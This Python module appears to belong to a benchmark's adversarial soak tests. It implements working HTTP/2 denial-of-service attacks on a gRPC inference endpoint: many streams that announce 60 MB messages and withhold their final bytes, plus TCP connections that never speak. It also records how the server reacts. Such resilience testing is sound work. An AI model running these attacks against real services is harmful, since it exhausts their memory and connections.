"""gRPC attacks that no gRPC client library makes: raw HTTP/2 streams that announce large
messages and withhold their end, and connections that never speak.

A gRPC client library sends a whole message or none; these speak HTTP/2 themselves
(with the `h2` package) so that a stream can carry all but the last bytes of a 60 MB
message and then wait. What a server holds for such streams is the bytes its
flow-control windows let in: `WithheldMessages.accepted` counts them, and the
attack's caller reads the server's resident memory meanwhile.

    with WithheldMessages("127.0.0.1", port, "/inference.GRPCInferenceService/ModelInfer",
                          streams=40, size=60 << 20) as attack:
        attack.push(seconds=3)      # send what the windows allow, for up to 3 s
        print(attack.accepted, attack.statuses())
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Iterator, Sequence

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from bench.attacks import Outcome

CHUNK = 16384  # HTTP/2's default largest frame


def grpc_headers(
    path: str, authority: str, metadata: Sequence[tuple[str, str]] = ()
) -> list[tuple[str, str]]:
    """The request headers of a gRPC call to `path` ("/package.Service/Method")."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *metadata,
    ]


class WithheldMessages:
    """One HTTP/2 connection with `streams` calls to `path`, each announcing a message of
    `size` bytes and sending at most all but its last `withhold` bytes."""

    def __init__(
        self,
        host: str,
        port: int,
        path: str,
        *,
        streams: int,
        size: int,
        withhold: int = 100,
        metadata: Sequence[tuple[str, str]] = (),
        tls: ssl.SSLContext | None = None,
        source: str | None = None,
    ) -> None:
        self.address = (host, port)
        self.source = source  # the local address to connect from (another peer: 127.0.0.2)
        self.path = path
        self.streams = streams
        self.size = size
        self.withhold = withhold
        self.metadata = list(metadata)
        self.tls = tls
        self.accepted = 0  # message bytes the server's windows let in, all streams
        self.sent: dict[int, int] = {}  # stream id -> bytes of its frame sent so far
        self.status: dict[int, str] = {}  # stream id -> grpc-status name, or "reset"
        self.closed = False  # the server ended the connection
        self._sock: socket.socket | None = None
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))

    def __enter__(self) -> WithheldMessages:
        sock = socket.create_connection(
            self.address, timeout=10, source_address=(self.source, 0) if self.source else None
        )
        if self.tls is not None:
            self.tls.set_alpn_protocols(["h2"])
            sock = self.tls.wrap_socket(sock, server_hostname=self.address[0])
        self._sock = sock
        self._h2.initiate_connection()
        authority = f"{self.address[0]}:{self.address[1]}"
        for _ in range(self.streams):
            stream = self._h2.get_next_available_stream_id()
            self._h2.send_headers(stream, grpc_headers(self.path, authority, self.metadata))
            self.sent[stream] = 0
        self._flush()
        return self

    def __exit__(self, *exc: object) -> None:
        if self._sock is not None:
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                self._h2.close_connection()
                self._flush()
            self._sock.close()
            self._sock = None

    def _flush(self) -> None:
        data = self._h2.data_to_send()
        if data and self._sock is not None:
            try:
                self._sock.settimeout(10)
                self._sock.sendall(data)
            except OSError:
                self.closed = True

    def _receive(self, timeout: float) -> None:
        assert self._sock is not None
        self._sock.settimeout(max(timeout, 0.001))
        try:
            data = self._sock.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        try:
            events = self._h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for event in events:
            self._note(event)
        self._flush()

    def _note(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
            headers = {k.decode() if isinstance(k, bytes) else k: v for k, v in event.headers}
            code = headers.get("grpc-status")
            if code is not None:
                self.status[event.stream_id] = _STATUS_NAMES.get(int(code), str(code))
        elif isinstance(event, h2.events.StreamReset):
            self.status.setdefault(event.stream_id, "reset")
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.closed = True

    def _open(self) -> list[int]:
        return [s for s in self.sent if s not in self.status]

    def push(self, seconds: float) -> None:
        """Send each open stream's message, all but its last `withhold` bytes, as far as the
        server's flow-control windows allow, for at most `seconds`."""
        end = time.monotonic() + seconds
        frame = self.size + 5
        goal = frame - self.withhold
        prefix = b"\0" + struct.pack(">I", self.size)
        while time.monotonic() < end and not self.closed:
            moved = False
            for stream in self._open():
                left = goal - self.sent[stream]
                if left <= 0:
                    continue
                try:
                    window = self._h2.local_flow_control_window(stream)
                except (h2.exceptions.StreamClosedError, KeyError):
                    self.status.setdefault(stream, "reset")
                    continue
                n = min(left, window, self._h2.max_outbound_frame_size)
                if n <= 0:
                    continue
                start = self.sent[stream]
                head = prefix[start:5][:n] if start < 5 else b""
                chunk = head + bytes(n - len(head))
                try:
                    self._h2.send_data(stream, chunk)
                except (h2.exceptions.StreamClosedError, h2.exceptions.FlowControlError):
                    self.status.setdefault(stream, "reset")
                    continue
                self.sent[stream] += n
                self.accepted += n
                moved = True
            self._flush()
            self._receive(0.0 if moved else min(0.05, max(end - time.monotonic(), 0.0)))
            if not self._open():
                break

    def hold(self, seconds: float) -> None:
        """Keep the connection (reading what the server sends) for `seconds`."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.closed:
            self._receive(min(0.1, end - time.monotonic()))

    def statuses(self) -> Counter[str]:
        """The ends of the streams so far ("open" for those still going)."""
        return Counter(self.status.get(s, "open") for s in self.sent)


_STATUS_NAMES = {
    0: "OK",
    1: "CANCELLED",
    2: "UNKNOWN",
    3: "INVALID_ARGUMENT",
    4: "DEADLINE_EXCEEDED",
    5: "NOT_FOUND",
    6: "ALREADY_EXISTS",
    7: "PERMISSION_DENIED",
    8: "RESOURCE_EXHAUSTED",
    9: "FAILED_PRECONDITION",
    10: "ABORTED",
    11: "OUT_OF_RANGE",
    12: "UNIMPLEMENTED",
    13: "INTERNAL",
    14: "UNAVAILABLE",
    15: "DATA_LOSS",
    16: "UNAUTHENTICATED",
}


@contextlib.contextmanager
def silent_connections(host: str, port: int, count: int) -> Iterator[list[socket.socket]]:
    """`count` TCP connections that send nothing (no HTTP/2 preface, no TLS hello)."""
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            socks.append(socket.create_connection((host, port), timeout=10))
        yield socks
    finally:
        for sock in socks:
            sock.close()


def closed_by_server(sock: socket.socket, timeout: float) -> bool:
    """Whether the server closes `sock` within `timeout` seconds (reading what it sends)."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        sock.settimeout(max(end - time.monotonic(), 0.001))
        try:
            if not sock.recv(65536):
                return True
        except TimeoutError:
            return False
        except OSError:
            return True
    return False


# The attacks as the soak cycles through them (bench/soak_adversarial.py) --------------


def withheld(
    name: str,
    host: str,
    port: int,
    path: str,
    *,
    streams: int,
    size: int,
    seconds: float,
    share: int | None = None,
    metadata: Sequence[tuple[str, str]] = (),
    tls: ssl.SSLContext | None = None,
    source: str | None = None,
) -> Outcome:
    """`WithheldMessages` pushed for `seconds`, then left: how the streams ended ("open":
    still waiting when the client left) and, with `share` (bytes), whether the server took
    in more than that plus a 64 KiB window per stream ("within the share" or not)."""
    out = Outcome(name)
    began = time.monotonic()
    with WithheldMessages(
        host, port, path, streams=streams, size=size, metadata=metadata, tls=tls, source=source
    ) as attack:
        attack.push(seconds)
        out.codes.update(attack.statuses())
        if share is not None:
            within = attack.accepted <= share + streams * (2 << 20)
            out.add("taken in within the share" if within else "taken in past the share")
    out.seconds = time.monotonic() - began
    return out


def silent(name: str, host: str, port: int, count: int, hold: float) -> Outcome:
    """`count` connections that never speak, held up to `hold` s: each "closed" by the server
    (or refused when it connected) or still "open" at the end."""
    out = Outcome(name)
    began = time.monotonic()
    socks: list[socket.socket] = []
    try:
        for _ in range(count):
            try:
                socks.append(socket.create_connection((host, port), timeout=5))
            except OSError:
                out.add("refused")
        for sock in socks:
            left = max(0.01, hold - (time.monotonic() - began))
            out.add("closed" if closed_by_server(sock, left) else "open")
    finally:
        for sock in socks:
            sock.close()
    out.seconds = time.monotonic() - began
    return out
